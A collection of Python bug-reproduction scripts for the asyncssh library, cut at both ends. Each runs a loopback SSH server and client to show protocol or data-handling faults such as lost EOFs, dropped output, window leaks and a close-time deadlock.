channel down at once and the EOF noted in self._recv_eof_on_close (repair
b12a165) is dropped.  With data in the buffer the close waits for
_start_reading() and everything is reported properly.

Exit status 1 = misbehaviour shown, 0 = behaves as the property demands.
"""

import asyncio
import sys

import asyncssh


class ServerSession(asyncssh.SSHServerSession):
    """Sender: optional data, then EOF, exit status and close"""

    def connection_made(self, chan):
        self._chan = chan

    def exec_requested(self, command):
        self._command = command
        return True

    def session_started(self):
        if self._command == 'with-output':
            self._chan.write('abc')

        self._chan.write_eof()
        self._chan.exit(0)


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed

    def session_requested(self):
        return ServerSession()


class ClientSession(asyncssh.SSHClientSession):
    """Receiver: records what it is told"""

    def __init__(self):
        self.events = []

    def session_started(self):
        self.events.append('session_started')

    def data_received(self, data, datatype):
        self.events.append(f'data_received({data!r})')

    def eof_received(self):
        self.events.append('eof_received')
        return False

    def connection_lost(self, exc):
        self.events.append(f'connection_lost({exc!r})')


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                     server_factory=Server)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user')

    results = {}

    for command in ('with-output', 'no-output'):
        chan, session = await conn.create_session(ClientSession, command)
        await asyncio.wait_for(chan.wait_closed(), 10)
        results[command] = session.events
        print(f'{command:12}: {session.events}')

    conn.close()
    listener.close()

    if 'eof_received' not in results['with-output']:
        print('UNEXPECTED: control case saw no EOF either; demo inconclusive')
        return 2

    if 'eof_received' not in results['no-output']:
        print('MISBEHAVIOUR: the sender called write_eof() in both cases, but '
              'the receiver of the empty stream was never told about EOF')
        return 1

    print('OK: EOF reported in both cases')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
