"""C07 demo 4: closing one process whose stdin is redirected from a file
brings down the whole connection, and every other channel on it loses the
rest of its data.

Expected (property C07, "any number of channels active at once on one
connection"): channel B receives all 20 lines its sender writes, whatever
happens on channel A.  Closing process A with close() is documented to flush
buffered data and then close that channel only.

Observed: process A uploads a file through a stdin redirect and is closed by
the application half way (as `async with conn.create_process(...)` does on
leaving the block, e.g. after a timeout).  A little later the connection
fails with "Channel not open for sending", and process B - which has nothing
to do with A - gets only its first few lines followed by that error.

Responsible code: asyncssh/process.py.  close() leaves the redirect reader
in SSHProcess._readers until the peer's close arrives.  While the channel is
'close_pending' the rest of the send buffer drains, the channel calls
SSHProcess.resume_writing(), which calls _FileReader.resume_reading() ->
feed() -> SSHProcess.feed_data() -> SSHChannel.write(), and that raises
BrokenPipeError because _send_state is no longer 'open'.  The exception
escapes from the packet handler (MSG_CHANNEL_WINDOW_ADJUST) and closes the
connection.  feed_data() only ignores sources whose reader was already
dropped (repair b525246: "... closed the connection and every other channel
on it"); a channel which was closed locally but not yet cleaned up is the
sibling case that repair did not reach.  The same happens with
_StreamReader/_AsyncFileReader sources, where the exception ends the feed
task and is treated as an internal error.

Exit status 1 = misbehaviour shown, 0 = behaves as the property demands.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh

LINES = 20


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed


async def server_process(process):
    if process.command == 'lines':
        # Channel B: a sender which writes numbered lines for about a second
        for i in range(LINES):
            process.stdout.write(f'line {i}\n')
            await asyncio.sleep(0.05)

        process.exit(0)
    else:
        # Channel A: a sink which starts reading its input a bit late
        await asyncio.sleep(0.3)

        while await process.stdin.read(65536):
            pass

        process.exit(0)


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                     server_factory=Server,
                                     process_factory=server_process)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user')

    with tempfile.NamedTemporaryFile(delete=False) as upload:
        upload.write(b'x' * 8_000_000)

    try:
        proc_b = await conn.create_process('lines')
        proc_a = await conn.create_process('sink', stdin=upload.name,
                                           encoding=None)

        await asyncio.sleep(0.1)
        proc_a.close()          # give up on the upload

        received = ''
        error = None

        try:
            while True:
                data = await asyncio.wait_for(proc_b.stdout.read(65536), 10)

                if not data:
                    break

                received += data
        except Exception as exc: # pylint: disable=broad-except
            error = exc

        closed = conn.is_closed()
    finally:
        os.unlink(upload.name)

    conn.close()
    listener.close()

    expected = ''.join(f'line {i}\n' for i in range(LINES))

    print(f'channel B received {received.count(chr(10))} of {LINES} lines, '
          f'error={error!r}, connection closed={closed}')

    if received != expected or error or closed:
        print('MISBEHAVIOUR: closing process A killed the connection and '
              'cut off the unrelated channel B')
        return 1

    print('OK: channel B was not affected')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
