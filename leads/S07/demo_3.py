"""C07 demo 3: the whole output of a command is silently lost when the server
closes the connection right after the command, although every byte, the EOF,
the exit status and the channel close had been received before.

Expected (property C07): the receiving application sees exactly the bytes the
sending application wrote, then EOF.  The server process below writes one
line, calls write_eof() and exit(0) (a complete, clean channel shutdown) and
then closes the connection cleanly (DISCONNECT), as one-command servers and
many network devices do.  All of that reaches the client ahead of the
disconnect message, in order.

Observed: `await conn.run(...)` returns stdout == '' together with
exit_status == 0 and no exception - truncated output reported as a
successful run.  The control run, in which the server leaves the connection
open, returns the line.

Responsible code: asyncssh/channel.py, SSHChannel.process_connection_close().
Data which arrives between the reply to the exec request and the
_start_reading() task of SSHClientChannel.create() is parked in
self._recv_buf with self._recv_paused == 'starting'.  The repair which
delivers parked data on connection close (e69e278) explicitly leaves this
state out (`if self._recv_paused != 'starting':`), so the buffer is dropped
and the session gets connection_lost(None).  (_start_reading() runs
afterwards and finds self._session already None.)  The channel close path
handles the same situation correctly (it waits for _start_reading()), only
the connection close path drops the data.

Exit status 1 = misbehaviour shown, 0 = behaves as the property demands.
"""

import asyncio
import sys

import asyncssh

OUTPUT = 'important output\n'


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed


def server_process(process):
    """Sender: output, EOF, exit status + channel close, then disconnect"""

    process.stdout.write(OUTPUT)
    process.stdout.write_eof()
    process.exit(0)

    if process.command == 'then-disconnect':
        process.channel.get_connection().close()


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                     server_factory=Server,
                                     process_factory=server_process)
    port = listener.sockets[0].getsockname()[1]

    results = {}

    for command in ('stay-connected', 'then-disconnect'):
        conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                      username='user')

        try:
            result = await asyncio.wait_for(conn.run(command), 10)
            results[command] = (result.stdout, result.exit_status)
        except Exception as exc: # pylint: disable=broad-except
            results[command] = exc

        print(f'{command:16}: {results[command]!r}')
        conn.close()

    listener.close()

    if results['stay-connected'] != (OUTPUT, 0):
        print('UNEXPECTED: control run failed; demo inconclusive')
        return 2

    result = results['then-disconnect']

    if isinstance(result, Exception):
        print('OK (arguably): the loss of the connection was reported')
        return 0

    if result[0] != OUTPUT:
        print(f'MISBEHAVIOUR: the server wrote {OUTPUT!r} and EOF before '
              f'disconnecting, run() returned stdout={result[0]!r} with '
              f'exit_status={result[1]!r} and no error')
        return 1

    print('OK: output delivered')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
