"""C07 demo 6: a write error on the file one process' stdout is redirected to
closes the whole connection and truncates every other channel on it.

Expected (property C07, "any number of channels active at once on one
connection"): channel B receives all 20 lines its sender writes.  That the
file channel A's output is redirected to can no longer be written (disk
full, quota, ...) concerns channel A only.  Repair 2cc557a ("don't hang or
drop the connection when the target of an output redirect fails") settled
that for StreamWriter and async file targets: what is left for the failed
target is discarded, the connection stays up.

Observed: with a plain (synchronous) file object as the target the OSError
raised by file.write() escapes from SSHProcess.data_received() into the
channel's MSG_CHANNEL_DATA handler and from there into the connection, which
is closed.  Process B, which has nothing to do with the file, gets only its
first few lines and then the error.

Responsible code: asyncssh/process.py, _FileWriter.write() (called from
SSHProcess.data_received() and SSHProcess.feed_recv_buf()): unlike
_AsyncFileWriter._writer() and _StreamWriter._feed() after repair 2cc557a it
doesn't catch the OSError of a failed target.

Exit status 1 = misbehaviour shown, 0 = behaves as the property demands.
"""

import asyncio
import errno
import io
import sys

import asyncssh

LINES = 20


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed


async def server_process(process):
    """Both channels run the same sender: a line every 50 ms"""

    for i in range(LINES):
        process.stdout.write(f'line {i}\n')
        await asyncio.sleep(0.05)

    process.exit(0)


class FullDisk(io.BytesIO):
    """A file object which runs out of space after a few bytes"""

    def write(self, data):
        if self.tell() + len(data) > 20:
            raise OSError(errno.ENOSPC, 'No space left on device')

        return super().write(data)


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                     server_factory=Server,
                                     process_factory=server_process)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user')

    proc_b = await conn.create_process('b')
    await conn.create_process('a', stdout=FullDisk())

    received = ''
    error = None

    try:
        while True:
            data = await asyncio.wait_for(proc_b.stdout.read(65536), 10)

            if not data:
                break

            received += data
    except Exception as exc: # pylint: disable=broad-except
        error = exc

    closed = conn.is_closed()

    conn.close()
    listener.close()

    expected = ''.join(f'line {i}\n' for i in range(LINES))

    print(f'channel B received {received.count(chr(10))} of {LINES} lines, '
          f'error={error!r}, connection closed={closed}')

    if received != expected or error or closed:
        print("MISBEHAVIOUR: the failure of channel A's redirect target "
              "closed the connection and cut off the unrelated channel B")
        return 1

    print('OK: channel B was not affected')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
