"""C07: SSHTunTapStreamSession.read() (stream.py) loops `while not
self._eof_received`, so as soon as EOF (or channel close) has been seen it
returns b'' without looking at the packets that are still in its receive
buffer.  A sender that writes packets and then EOF loses every packet the
reader had not picked up yet.  TAP mode is used so the TUN header handling
plays no part."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

PACKETS = [bytes([i]) * 60 for i in range(1, 6)]

class Sender(asyncssh.SSHTunTapSession):
    def connection_made(self, chan): self.chan = chan

async def main():
    sender = Sender()
    server, conn = await start(tap=lambda c, unit: sender)
    reader, writer = await conn.open_tap()

    got = []
    async def consume():
        async for packet in reader:
            got.append(packet)
    task = asyncio.ensure_future(consume())
    await asyncio.sleep(0.2)                 # reader is now waiting for data

    for p in PACKETS:
        sender.chan.write(p)
    sender.chan.write_eof()

    try:
        await asyncio.wait_for(task, 5)
    except asyncio.TimeoutError:
        print('FAIL: reader never saw EOF'); return 1

    print(f'sender wrote {len(PACKETS)} packets then EOF; '
          f'reader received {len(got)} packets before EOF')
    if got != PACKETS:
        print('FAIL: packets written before EOF were dropped by the reader')
        return 1
    print('OK')
    return 0

run(main)
