"""C08 (peer ignores the advertised packet size): the maximum packet size a
channel advertises (_recv_pktsize) is sent in CHANNEL_OPEN / OPEN_CONFIRMATION
and then never looked at again.  _process_data()/_process_extended_data()
check the window only, so a single CHANNEL_DATA message three times as large
as the advertised maximum is accepted and delivered instead of being treated
as a protocol error."""
import asyncio, asyncssh
from asyncssh.constants import MSG_CHANNEL_DATA
from asyncssh.packet import String

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

MAX_PKTSIZE = 32768      # what the server channel advertises (the default)
SENT = 100000            # one message, well inside the 2 MiB window

class Srv(asyncssh.SSHServerSession):
    def __init__(self): self.sizes = []
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True
    def data_received(self, data, datatype): self.sizes.append(len(data))

class Cli(asyncssh.SSHClientSession):
    def __init__(self): self.lost = None
    def connection_lost(self, exc): self.lost = ('lost', exc)

async def main():
    srv = Srv()
    server, conn = await start(session=lambda c: srv,
                               listen_args=dict(max_pktsize=MAX_PKTSIZE))
    chan, sess = await conn.create_session(Cli, encoding=None)
    print(f'server channel advertised max packet size {chan._send_pktsize}, '
          f'window {chan._send_window}')
    # a peer that ignores the advertised packet size
    chan.send_packet(MSG_CHANNEL_DATA, String(b'x' * SENT))
    await asyncio.sleep(1.0)
    print(f'server session got deliveries of sizes {srv.sizes}; '
          f'client channel state: {sess.lost or "still open"}')
    if srv.sizes:
        print(f'FAIL: a {SENT}-byte data packet was accepted on a channel '
              f'whose advertised maximum packet size is {MAX_PKTSIZE}')
        return 1
    print('OK')
    return 0

run(main)
