"""C08: on a layer 3 (TUN) channel the receiver strips the 4-byte address
family header from every CHANNEL_DATA message *before* charging the message
to its receive window.  The sender paid for those 4 bytes.  Every packet
therefore leaks 4 bytes of window; once the leak exceeds half the window the
receiver never sends another WINDOW_ADJUST and the channel stalls for good,
although the receiving application consumes every packet immediately."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

WINDOW = 4096           # receive window of the receiving side (the client)
PAYLOAD = 60            # IPv4-looking packet, 64 bytes on the wire
COUNT = 2000            # ~31 windows worth of data

class Sender(asyncssh.SSHTunTapSession):
    """Server side: writes COUNT packets, honouring pause/resume_writing"""
    def __init__(self):
        self.sent = 0
        self.paused = False
    def connection_made(self, chan): self.chan = chan
    def session_started(self): self.pump()
    def pause_writing(self): self.paused = True
    def resume_writing(self):
        self.paused = False
        self.pump()
    def pump(self):
        while self.sent < COUNT and not self.paused:
            pkt = b'\x45' + self.sent.to_bytes(4, 'big') + bytes(PAYLOAD - 5)
            self.chan.write(pkt)
            self.sent += 1

class Receiver(asyncssh.SSHTunTapSession):
    """Client side: consumes every packet at once, never pauses"""
    def __init__(self):
        self.got = 0
        self.got_bytes = 0
    def connection_made(self, chan): self.chan = chan
    def data_received(self, data, datatype):
        # (packets split by the sender are the subject of demo_2; here we
        # only count what arrives and watch for the stall)
        self.got += 1
        self.got_bytes += len(data)

async def main():
    sender = Sender()
    server, conn = await start(tun=lambda c, unit: sender)
    chan, recv = await conn.create_tun(Receiver, window=WINDOW)
    srv_chan = sender.chan
    # Wait until the sender has handed everything to the wire, or until
    # nothing has moved for 2 seconds (at most 20 seconds in total)
    last, idle = -1, 0
    for _ in range(200):
        await asyncio.sleep(0.1)
        if sender.sent == COUNT and srv_chan.get_write_buffer_size() == 0:
            break
        idle = idle + 1 if recv.got_bytes == last else 0
        last = recv.got_bytes
        if idle >= 20:
            break
    print(f'packets written by sender app : {sender.sent}')
    print(f'deliveries to the receiver app : {recv.got} ({recv.got_bytes} bytes) '
          f'of {COUNT} packets ({COUNT * PAYLOAD} bytes)')
    print(f'sender:   send window {srv_chan._send_window}, '
          f'unsent bytes buffered {srv_chan.get_write_buffer_size()}')
    print(f'receiver: believes its window is {chan._recv_window} of {WINDOW} '
          f'(buffered {chan._recv_buf_len}, paused={chan._recv_paused})')
    if sender.sent != COUNT or srv_chan.get_write_buffer_size():
        print('FAIL: channel stalled although the receiver kept reading: '
              'sender window is 0, receiver thinks more than half its window '
              'is still open and sends no WINDOW_ADJUST')
        return 1
    print('OK')
    return 0

run(main)
