"""C07: on a layer 3 (TUN) channel, write() puts a 4-byte address family
header in front of the packet and hands the result to the generic
_flush_send_buf(), which cuts it at the peer's max packet size / remaining
window like any byte stream.  The receiving SSHTunTapChannel._accept_data()
removes 4 bytes from *every* CHANNEL_DATA message, so each fragment after the
first loses 4 bytes of real payload.  Both ends are unmodified asyncssh."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

MAX_PKTSIZE = 64        # advertised by the receiver (client side)

class Sender(asyncssh.SSHTunTapSession):
    def connection_made(self, chan): self.chan = chan

class Receiver(asyncssh.SSHTunTapSession):
    def __init__(self):
        self.chunks = []
        self.event = asyncio.Event()
    def data_received(self, data, datatype):
        self.chunks.append(data)
        self.event.set()

async def main():
    sender = Sender()
    server, conn = await start(tun=lambda c, unit: sender)
    chan, recv = await conn.create_tun(Receiver, max_pktsize=MAX_PKTSIZE)
    packet = b'\x45' + bytes(range(1, 200))     # 200 bytes, IPv4 version nibble
    sender.chan.write(packet)
    for _ in range(30):                          # up to 3 seconds
        await asyncio.sleep(0.1)
        if sum(map(len, recv.chunks)) >= len(packet):
            break
    got = b''.join(recv.chunks)
    print(f'sent one packet of {len(packet)} bytes; peer max packet size {MAX_PKTSIZE}')
    print(f'receiver got {len(recv.chunks)} deliveries, sizes '
          f'{[len(c) for c in recv.chunks]}, {len(got)} bytes in total')
    if got != packet:
        missing = [i for i in range(len(packet)) if packet[i:i+1] not in got]
        print(f'FAIL: bytes written were not delivered; payload bytes with '
              f'values {missing} never arrived')
        return 1
    print('OK')
    return 0

run(main)
