"""C08 (never deadlocks): a peer's CHANNEL_CLOSE is not acted upon while the
local reader is paused with undelivered data: _process_close() discards the
send buffer (_close_send) but leaves _recv_state at 'close_pending' until the
application resumes reading.  _close_send() empties the send buffer without
calling resume_writing(), and connection_lost() is postponed, so a writer
that is waiting for the channel to drain (SSHWriter.drain(), or a session
waiting for resume_writing()) waits forever - and because it is waiting it
never gets to read, so nothing ever un-pauses the channel.  The docstring of
pause_reading() promises the opposite ("Channel close notifications are not
suspended by this call")."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

WINDOW = 4096
state = {}

async def handler(stdin, stdout, stderr):
    # a "yes"-like server program: produces output, looks at stdin later
    state['phase'] = 'writing'
    try:
        for i in range(10000):
            stdout.write(b'y' * 1024)
            await stdout.drain()
        state['phase'] = 'all written'
    except Exception as exc:            # BrokenPipeError/ConnectionLost etc.
        state['phase'] = f'writer told about the close: {exc!r}'
    finally:
        state['done'] = True

class Cli(asyncssh.SSHClientSession):
    def connection_made(self, chan): chan.pause_reading()   # never reads

async def scenario(input_len):
    state.clear()
    server, conn = await start(listen_args=dict(window=WINDOW,
                                                session_factory=handler))
    chan, sess = await conn.create_session(Cli, encoding=None, window=WINDOW)
    await asyncio.sleep(0.3)
    # 2 windows of input the server program has not read yet: the first fills
    # the server's stream buffer (which then pauses the channel), the second
    # sits in the channel's own receive buffer
    chan.write(b'i' * input_len)
    await asyncio.sleep(0.5)
    print(f'client sent {input_len} bytes of input; server program is '
          f'{state.get("phase")!r}; client now closes the channel')
    chan.close()
    for _ in range(50):                 # give it 5 seconds
        await asyncio.sleep(0.1)
        if state.get('done'):
            break
    print(f'  up to 5s after the client closed the channel the server program is: '
          f'{state.get("phase")!r}')
    done = state.get('done')
    conn.close(); server.close()
    return done

async def main():
    if not await scenario(16):
        print('FAIL: control case (little unread input) broken'); return 1
    if not await scenario(2 * WINDOW):
        print('FAIL: the peer closed the channel, all unsent output was '
              'discarded, but the writer is still blocked in drain() and '
              'will be for as long as the connection lives')
        return 1
    print('OK')
    return 0

run(main)
