"""C07 (text mode, errors='replace'): the bytes of a truncated multi-byte
character at the end of the stream disappear.  _flush_recv_buf() finishes
the incremental decoders with decoder.decode(b'', True) only to find out
whether that raises (errors='strict'); with errors='replace' the call
*returns* the replacement character(s) and the return value is dropped.  The
very same bytes anywhere else in the stream are reported as U+FFFD."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

RAW_OUT = b'out:caf\xc3'              # ends inside a 2-byte character
RAW_ERR = b'err:\xe2\x82'             # ends inside a 3-byte character

class Srv(asyncssh.SSHServerSession):
    def connection_made(self, chan): self.chan = chan
    def shell_requested(self): return True
    def session_started(self):
        self.chan.write(RAW_OUT)
        self.chan.write_stderr(RAW_ERR)
        self.chan.write_eof()
        asyncio.get_event_loop().call_later(0.5, self.chan.exit, 0)

async def main():
    server, conn = await start(session=lambda c: Srv())
    result = await asyncio.wait_for(
        conn.run(encoding='utf-8', errors='replace'), 10)
    rc = 0
    for name, raw, got in (('stdout', RAW_OUT, result.stdout),
                           ('stderr', RAW_ERR, result.stderr)):
        want = raw.decode('utf-8', 'replace')
        print(f'{name}: peer sent {raw!r}; expected {want!r}; '
              f'application read {got!r}')
        if got != want:
            rc = 1
    if rc:
        print("FAIL: the undecodable tail was neither replaced nor "
              "reported; the reader cannot tell the stream was cut short")
    else:
        print('OK')
    return rc

run(main)
