"""C07: the sender writes data, signals EOF, then closes.  If the receiving
channel still has undelivered data (reading paused, or the client channel is
still in its 'starting' state) when EOF and CLOSE arrive, _process_close()
overwrites _recv_state 'eof_pending' with 'close_pending'.  When reading
resumes the data is delivered but eof_received() is never called: the
session goes straight from data_received() to connection_lost().

The same happens on the sending side: write(); write_eof(); close() with data
still queued for lack of window makes close() overwrite _send_state
'eof_pending' with 'close_pending', and the EOF is never put on the wire."""
import asyncio, asyncssh

# ---- loopback harness (no auth, ed25519 host key, bytes mode) ----
import sys

class NoAuthServer(asyncssh.SSHServer):
    def __init__(self, **hooks):
        self._hooks = hooks
    def connection_made(self, conn):
        self._conn = conn
    def begin_auth(self, username):
        return False
    def session_requested(self):
        f = self._hooks.get('session')
        return f(self._conn) if f else False
    def tun_requested(self, unit):
        f = self._hooks.get('tun')
        return f(self._conn, unit) if f else False
    def tap_requested(self, unit):
        f = self._hooks.get('tap')
        return f(self._conn, unit) if f else False
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        f = self._hooks.get('tcp')
        return f(self._conn, dest_host, dest_port) if f else False

async def start(server_encoding=None, listen_args=None, **hooks):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=lambda: NoAuthServer(**hooks),
                                   encoding=server_encoding, line_editor=False,
                                   **(listen_args or {}))
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None,
                                  config=None)
    return server, conn

def run(main):
    async def wrapper():
        try:
            return await asyncio.wait_for(main(), 60)
        except asyncio.TimeoutError:
            print('FAIL: demo did not finish within 60s (hang)')
            return 1
    rc = asyncio.run(wrapper())
    sys.exit(rc)
# ---- end of harness ----

class Srv(asyncssh.SSHServerSession):
    def __init__(self, close_delay):
